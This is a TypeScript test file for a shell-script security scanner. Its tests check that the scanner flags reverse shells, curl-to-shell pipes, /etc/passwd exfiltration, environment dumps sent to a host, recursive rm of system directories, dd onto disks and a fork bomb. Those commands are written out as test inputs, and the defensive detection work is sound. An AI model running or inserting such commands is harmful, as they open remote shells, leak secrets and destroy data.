import { describe, expect, it } from "vitest";
import { shellFindings } from "./rules-shell.js";

const ids = (text: string): string[] => shellFindings("scripts/run.sh", text).map((f) => f.ruleId);

describe("shellFindings", () => {
  it("flags /dev/tcp as a CRITICAL reverse shell", () => {
    const [finding] = shellFindings("scripts/run.sh", "#!/bin/bash\nexec 5<>/dev/tcp/10.0.0.1/4444\n");
    expect(finding).toMatchObject({ ruleId: "shell-reverse-shell", severity: "CRITICAL", line: 2 });
  });

  it("flags nc -e", () => {
    expect(ids("nc -lvnp 4444 -e /bin/sh")).toEqual(["shell-reverse-shell"]);
  });

  it("ignores netcat without -e", () => {
    expect(ids("nc -z localhost 5432")).toEqual([]);
  });

  it("ignores reverse-shell prose in comments", () => {
    expect(
      ids("# never open /dev/tcp/ sockets or run nc -e here\n# curl x | sh is forbidden; rm -rf / too\necho ok\n"),
    ).toEqual([]);
  });

  it("still reads a # inside quotes or ${#var} as code", () => {
    expect(ids('echo "#" ; nc -e /bin/sh host 1\n')).toEqual(["shell-reverse-shell"]);
    expect(ids("n=${#x}; exec 3<>/dev/tcp/h/1\n")).toEqual(["shell-reverse-shell"]);
  });

  it("flags bash -i and mkfifo as a HIGH heuristic", () => {
    expect(ids("bash -i")).toEqual(["shell-reverse-shell-heuristic"]);
    expect(ids("mkfifo /tmp/f")).toEqual(["shell-reverse-shell-heuristic"]);
  });

  it("flags reading /etc/passwd next to a network tool", () => {
    expect(ids("cat /etc/passwd > /tmp/p\nscp /tmp/p host:\n")).toEqual(["shell-sensitive-exfil"]);
  });

  it("ignores /etc/passwd without a network tool", () => {
    expect(ids("grep root /etc/passwd\n")).toEqual([]);
  });

  it("flags curl piped into a shell, including through sudo and line continuations", () => {
    expect(ids("curl -fsSL https://x.sh | sh")).toEqual(["shell-curl-pipe-shell"]);
    expect(ids("wget -qO- https://x.sh | sudo -u deploy -E bash")).toEqual(["shell-curl-pipe-shell"]);
    expect(ids("curl -fsSL \\\n  https://x.sh \\\n  | /bin/bash")).toEqual(["shell-curl-pipe-shell"]);
    expect(ids("bash <(curl -s https://x.sh)")).toEqual(["shell-curl-pipe-shell"]);
  });

  it("ignores curl piped into a non-shell", () => {
    expect(ids("curl -s https://api/x | jq .name\ncurl -s https://x || sh fallback.sh\n")).toEqual([]);
  });

  it("flags recursive rm against the root and system directories", () => {
    for (const cmd of [
      "rm -rf /",
      "rm -rf /*",
      "sudo rm -fr /etc",
      "rm -r --no-preserve-root /",
      "rm -Rf /usr/",
      "rm -rf /var/*; echo",
    ]) {
      expect(ids(cmd)).toEqual(["shell-destructive-command"]);
    }
  });

  it("ignores rm of subpaths and relative paths", () => {
    expect(ids('rm -rf /tmp/x\nrm -rf ./build\nrm -rf /usr/local/lib/foo\nrm /etc\nrm -rf "$DIR"/\n')).toEqual([]);
  });

  it("flags dd onto a device but not onto /dev/null", () => {
    expect(ids("dd if=img of=/dev/sda bs=4M")).toEqual(["shell-destructive-command"]);
    expect(ids("dd if=/dev/zero of=/dev/null count=1")).toEqual([]);
  });

  it("flags a fork bomb as destructive too", () => {
    expect(ids(":(){ :|:& };:")).toEqual(["shell-destructive-command"]);
  });

  it("flags a bare env dump in command position", () => {
    const [finding] = shellFindings("scripts/run.sh", "#!/usr/bin/env bash\nset -e\nenv | curl -d @- https://x\n");
    expect(finding?.ruleId).toBe("shell-env-dump");
    expect(finding?.line).toBe(3);
    expect(ids("if true; then printenv; fi")).toEqual(["shell-env-dump"]);
    expect(ids("export -p > vars.txt")).toEqual(["shell-env-dump"]);
  });

  it("ignores env used to run a program, single variables and heredoc text", () => {
    expect(ids("#!/usr/bin/env bash\nenv FOO=1 python x.py\nprintenv HOME\necho env\ncat <<EOF\nenv\nEOF\n")).toEqual(
      [],
    );
  });
});
